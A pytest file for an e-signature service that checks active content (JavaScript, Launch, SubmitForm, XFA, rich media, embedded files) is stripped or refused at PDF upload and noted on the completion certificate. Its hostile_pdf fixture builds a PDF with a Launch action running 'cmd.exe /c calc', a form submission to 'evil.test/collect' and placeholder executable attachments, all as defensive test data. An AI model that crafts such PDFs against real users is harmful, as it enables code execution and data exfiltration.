"""Active content in an uploaded PDF (issue 24, item 4): JavaScript of every kind, Launch, ImportData,
SubmitForm, XFA, rich media, multimedia and embedded files are removed at upload (`[limits]
active_content = "strip"`, the default) or refused (`"refuse"`); the document record lists what was
removed, the signed PDF carries none of it, and its certificate of completion says so. A document
that already carries signatures is flagged, and its certificate says they are not preserved.

Before: the hostile PDF below was accepted, signed and sealed with all of it intact, nothing said."""
from __future__ import annotations

import asyncio
import hashlib
import io
import subprocess

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from esign import config as configmod
from esign.domain.orgs import keys
from esign.pdf.finalize import fingerprint
from esign.pdf.seal import SealMaterial
from tests.support import assert_error, raw_db, running_server
from tests.support.active_pdfs import every_object, plain_pdf
from tests.support.active_pdfs import js_action as _js
from tests.support.active_pdfs import pdf_dict as _d
from tests.support.active_pdfs import rect as _rect
from tests.support.pdf_tools import pdfsig, pyhanko_signed, pyhanko_statuses
from tests.support.signing import make_request, spost, typed

SIGNER = {"name": "Ann Example", "email": "ann@example.test"}
FOUND = ["javascript", "launch", "import_data", "submit_form", "xfa", "rich_media", "multimedia", "embedded_files"]
# strings only the hostile parts carry: none may be left anywhere in the signed file
MARKERS = [b"EVILSCRIPT", b"cmd.exe", b"evil.exe", b"MZ-EVIL-PAYLOAD", b"evil.test/collect", b"xdp:xdp",
           b"evil.csv", b"movie.swf", b"clip.mp4", b"second-evil.bat"]
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/ImportData", "/SubmitForm", "/RichMediaExecute", "/Rendition",
                  "/GoToE", "/Movie", "/Sound"}


def _stream(data: bytes, **entries) -> StreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update(_d(**entries))
    return stream


def _file_spec(writer: PdfWriter, name: str, data: bytes) -> DictionaryObject:
    return _d(Type=NameObject("/Filespec"), F=TextStringObject(name),
              EF=_d(F=writer._add_object(_stream(data, Type=NameObject("/EmbeddedFile")))))


def add_document_script(writer: PdfWriter, code: str) -> None:
    """A document-level script: an entry of the catalog's /Names /JavaScript tree."""
    if "/Names" not in writer.root_object:
        writer.root_object[NameObject("/Names")] = DictionaryObject()
    writer.root_object["/Names"][NameObject("/JavaScript")] = _d(Names=ArrayObject(
        [TextStringObject("esign-test"), writer._add_object(_js(code))]))


def with_document_script(pdf: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    add_document_script(writer, "app.alert(1)")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hostile_pdf() -> bytes:
    """Every kind of active content at once, built with pypdf."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    root = writer.root_object
    root[NameObject("/OpenAction")] = writer._add_object(_js("app.alert('opened')"))
    root[NameObject("/AA")] = _d(WC=_js("will close"))
    writer.add_attachment("evil.exe", b"MZ-EVIL-PAYLOAD")  # the /Names /EmbeddedFiles tree
    add_document_script(writer, "this.print()")  # the /Names /JavaScript tree
    form = root["/AcroForm"].get_object()
    form[NameObject("/XFA")] = writer._add_object(_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
    field = form["/Fields"][0].get_object()
    field[NameObject("/AA")] = _d(K=_js("keystroke"), F=_js("format"))
    first, second = writer.pages[0], writer.pages[1]
    first[NameObject("/AA")] = _d(O=_js("page open"))
    second[NameObject("/AA")] = _d(C=_d(S=NameObject("/ImportData"), F=TextStringObject("evil.csv")))
    launch = _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=_rect(72, 700, 200, 720),
                A=_d(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"),
                     Win=_d(F=TextStringObject("cmd.exe"), P=TextStringObject("/c calc"))))
    chained = _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=_rect(72, 660, 200, 680),
                 A=_d(S=NameObject("/GoTo"), D=ArrayObject([second.indirect_reference, NameObject("/Fit")]),
                      Next=ArrayObject([_d(S=NameObject("/URI"), URI=TextStringObject("https://example.test/")),
                                        _js("next in the chain")])))
    submit = _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=_rect(72, 620, 200, 640),
                A=_d(S=NameObject("/SubmitForm"), F=_d(FS=NameObject("/URL"),
                                                       F=TextStringObject("https://evil.test/collect"))))
    web = _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=_rect(72, 580, 200, 600),
             A=_d(S=NameObject("/URI"), URI=TextStringObject("https://example.test/terms")))
    rich = _d(Type=NameObject("/Annot"), Subtype=NameObject("/RichMedia"), Rect=_rect(300, 600, 500, 700),
              RichMediaContent=_d(Assets=_d(Names=ArrayObject([
                  TextStringObject("movie.swf"), _file_spec(writer, "movie.swf", b"FWS-EVIL")]))))
    screen = _d(Type=NameObject("/Annot"), Subtype=NameObject("/Screen"), Rect=_rect(300, 500, 500, 580),
                A=_d(S=NameObject("/Rendition"), OP=NumberObject(0),
                     R=_d(S=NameObject("/MR"), C=_d(S=NameObject("/MCD"), D=_file_spec(writer, "clip.mp4", b"x")))))
    first[NameObject("/Annots")] = ArrayObject(
        [*first.get("/Annots", ArrayObject()), *(writer._add_object(a) for a in (launch, chained, submit, web,
                                                                                   rich, screen))])
    attachment = _d(Type=NameObject("/Annot"), Subtype=NameObject("/FileAttachment"), Rect=_rect(72, 72, 90, 90),
                    FS=_file_spec(writer, "second-evil.bat", b"MZ-EVIL-PAYLOAD again"))
    attachment_ref = writer._add_object(attachment)
    popup = writer._add_object(_d(Type=NameObject("/Annot"), Subtype=NameObject("/Popup"),
                                  Rect=_rect(100, 72, 200, 150), Parent=attachment_ref))
    second[NameObject("/Annots")] = ArrayObject([attachment_ref, popup])
    bookmark = writer.add_outline_item(title="Terms", page_number=0)
    bookmark.get_object()[NameObject("/A")] = _js("bookmark")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ESIGNS_OWN = ("audit-trail.json", "consent-disclosure.txt")  # the trail and the disclosure the signers agreed to


def assert_no_active_content(pdf: bytes) -> None:
    reader = PdfReader(io.BytesIO(pdf))
    root = reader.root_object
    assert "/OpenAction" not in root and "/AA" not in root and "/Collection" not in root
    names = root.get("/Names", {})
    assert "/JavaScript" not in names
    embedded = names.get("/EmbeddedFiles", {}).get("/Names", [])
    assert sorted(str(n) for n in embedded[::2]) == sorted(ESIGNS_OWN)  # esign's own files only
    assert "/XFA" not in root["/AcroForm"]
    for page in reader.pages:
        assert "/AA" not in page
        for annot in page.get("/Annots", []):
            annot = annot.get_object()
            assert annot["/Subtype"] not in ("/FileAttachment", "/RichMedia", "/Screen", "/Popup")
            assert "/AA" not in annot
            assert "/A" not in annot or annot["/A"]["/S"] in ("/URI", "/GoTo"), annot
    seen = 0
    for obj in every_object(pdf):
        seen += 1
        if isinstance(obj, DictionaryObject):
            assert obj.get("/S") not in ACTIVE_ACTIONS and "/JS" not in obj, obj
            if "/EF" in obj:
                assert obj["/F"] in ESIGNS_OWN, obj
        data = obj.get_data() if isinstance(obj, StreamObject) else repr(obj).encode()
        for marker in MARKERS:
            assert marker not in data, (marker, obj)
    assert seen > 20
    for marker in MARKERS:
        assert marker not in pdf


async def sign_and_download(srv, document_id: str, tmp_path) -> tuple[bytes, str]:
    """Sign the document through the signer API; the signed PDF and its certificate pages' text."""
    made = await make_request(srv, [SIGNER], fields={"s": {}}, document_id=document_id)
    resp = await spost(srv, await made.token(), "sign", {"signature": typed(), "consent": True})
    assert resp.status == 200, resp
    await srv.run_jobs()
    got = await made.get()
    assert got["signed_pdf_status"] == "ready", got
    link = (await srv.client.get(f"/v1/signing-requests/{made.id}/download")).json["download_url"]
    signed = (await srv.client.get(link[len(srv.url):], key=None)).body
    path = tmp_path / "signed.pdf"
    path.write_bytes(signed)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    certificate = " ".join(text.split("Certificate of completion", 1)[1].split())
    return signed, certificate


async def assert_sealed(srv, signed: bytes, tmp_path) -> None:
    [report] = pdfsig(signed, tmp_path)
    assert "Signature is Valid" in report and "Total document signed" in report, report
    seal = await keys.seal_material(srv.services)
    [status] = await asyncio.to_thread(pyhanko_statuses, signed, seal.certificate)  # it runs a loop of its own
    assert status.intact and status.valid and status.bottom_line, status


async def test_active_content_is_stripped_listed_and_certified(server, client, tmp_path):
    hostile = hostile_pdf()
    for marker in MARKERS:  # the test file does carry each
        assert any(marker in (o.get_data() if isinstance(o, StreamObject) else repr(o).encode())
                   for o in every_object(hostile)), marker
    resp = await client.upload(hostile, "hostile.pdf")
    assert resp.status == 201, resp
    assert resp.json["active_content_removed"] == FOUND
    assert resp.json["had_signatures"] is False
    assert resp.json["file_size"] < len(hostile)
    [listed] = (await client.get("/v1/documents")).json["items"]
    assert listed["active_content_removed"] == FOUND and listed["had_signatures"] is False
    record = await raw_db(server.services)["documents"].find_one({"_id": resp.json["id"]})
    stored = await server.services.storage.get_bytes(record["blob_key"])
    assert_no_active_content_stored(stored)
    assert PdfReader(io.BytesIO(stored)).get_fields()["name"]["/V"] == "Ada"  # the form is kept

    signed, certificate = await sign_and_download(server, resp.json["id"], tmp_path)
    assert_no_active_content(signed)
    await assert_sealed(server, signed, tmp_path)
    assert "Active content removed" in certificate, certificate
    for words in ("JavaScript", "launch actions", "form data imports", "form submissions", "XFA forms",
                  "rich media", "sound, movie and screen media", "embedded files"):
        assert words in certificate, words
    assert "without its active content" in certificate  # the copy as accepted (esign.pdf.normalise)
    assert "Earlier signatures" not in certificate
    assert f"Seal certificate SHA-256 {fingerprint(await keys.seal_material(server.services))}" in certificate


def assert_no_active_content_stored(pdf: bytes) -> None:
    """The stored copy: as the signed file, but without esign's trail."""
    reader = PdfReader(io.BytesIO(pdf))
    assert "/EmbeddedFiles" not in reader.root_object.get("/Names", {})
    for obj in every_object(pdf):
        data = obj.get_data() if isinstance(obj, StreamObject) else repr(obj).encode()
        for marker in MARKERS:
            assert marker not in data, (marker, obj)
        if isinstance(obj, DictionaryObject):
            assert "/EF" not in obj and "/JS" not in obj and obj.get("/S") not in ACTIVE_ACTIONS, obj


async def test_a_plain_pdf_is_stored_as_its_normalised_copy_with_nothing_removed(server, client):
    plain = plain_pdf()
    resp = await client.upload(plain, "plain.pdf")
    assert resp.status == 201, resp
    assert resp.json["active_content_removed"] == [] and resp.json["had_signatures"] is False
    record = await raw_db(server.services)["documents"].find_one({"_id": resp.json["id"]})
    stored = await server.services.storage.get_bytes(record["blob_key"])
    assert resp.json["file_size"] == len(stored) and record["received_sha256"] == hashlib.sha256(plain).hexdigest()
    assert [p.extract_text() for p in PdfReader(io.BytesIO(stored)).pages] == \
        [p.extract_text() for p in PdfReader(io.BytesIO(plain)).pages]
    [listed] = (await client.get("/v1/documents")).json["items"]
    assert listed["active_content_removed"] == [] and listed["had_signatures"] is False


async def test_refuse_answers_400_naming_the_kinds(tmp_path):
    async with running_server(tmp_path, overrides={"limits": {"active_content": "refuse"}}) as srv:
        error = assert_error(await srv.client.upload(hostile_pdf(), "hostile.pdf"), 400, "active_content")
        for kind in FOUND:
            assert kind in error["message"], error
        assert (await srv.client.get("/v1/documents")).json["total"] == 0
        error = assert_error(await srv.client.upload(with_document_script(plain_pdf()), "script.pdf"), 400,
                             "active_content")
        assert "javascript" in error["message"] and "embedded_files" not in error["message"], error
        resp = await srv.client.upload(plain_pdf(), "plain.pdf")  # a plain PDF is accepted all the same
        assert resp.status == 201 and resp.json["active_content_removed"] == [], resp


async def test_a_signed_upload_is_flagged_and_the_certificate_says_so(server, client, tmp_path):
    earlier = await asyncio.to_thread(pyhanko_signed, plain_pdf(), "Acrobat", box=(100, 600, 300, 680))
    assert len(await asyncio.to_thread(pyhanko_statuses, earlier, SealMaterial.generate().certificate)) == 1
    resp = await client.upload(earlier, "signed-elsewhere.pdf")
    assert resp.status == 201, resp
    assert resp.json["had_signatures"] is True and resp.json["active_content_removed"] == []
    record = await raw_db(server.services)["documents"].find_one({"_id": resp.json["id"]})
    assert record["received_sha256"] == hashlib.sha256(earlier).hexdigest()  # as uploaded, on the certificate
    [listed] = (await client.get("/v1/documents")).json["items"]
    assert listed["had_signatures"] is True

    signed, certificate = await sign_and_download(server, resp.json["id"], tmp_path)
    await assert_sealed(server, signed, tmp_path)
    assert "carried 1 digital signature, not preserved" in certificate, certificate
    assert "Active content removed" not in certificate


async def test_a_signed_upload_with_active_content(server, client, tmp_path):
    """Both at once: the script goes, the signature is flagged (the cleaned copy no longer verifies
    it, and the certificate says the sender's own copy still carries it)."""
    earlier = await asyncio.to_thread(pyhanko_signed, with_document_script(plain_pdf()), "Acrobat")
    resp = await client.upload(earlier, "both.pdf")
    assert resp.status == 201, resp
    assert resp.json["had_signatures"] is True and resp.json["active_content_removed"] == ["javascript"]
    signed, certificate = await sign_and_download(server, resp.json["id"], tmp_path)
    assert_no_active_content(signed)
    await assert_sealed(server, signed, tmp_path)
    assert "carried 1 digital signature, not preserved" in certificate
    assert "The sender's own copy of the upload still carries it." in certificate  # one signature: it
    assert "Active content removed" in certificate and "JavaScript" in certificate


def test_the_setting_is_checked(tmp_path):
    path = tmp_path / "esign.toml"
    path.write_text('[limits]\nactive_content = "keep"\n')
    with pytest.raises(configmod.ConfigError, match="limits.active_content"):
        configmod.load(str(path), environ={})
    path.write_text('[limits]\nactive_content = "refuse"\n')
    assert configmod.load(str(path), environ={}).limits.active_content == "refuse"
    assert configmod.load(str(path), environ={"ESIGN_LIMITS_ACTIVE_CONTENT": "strip"}).limits.active_content == "strip"
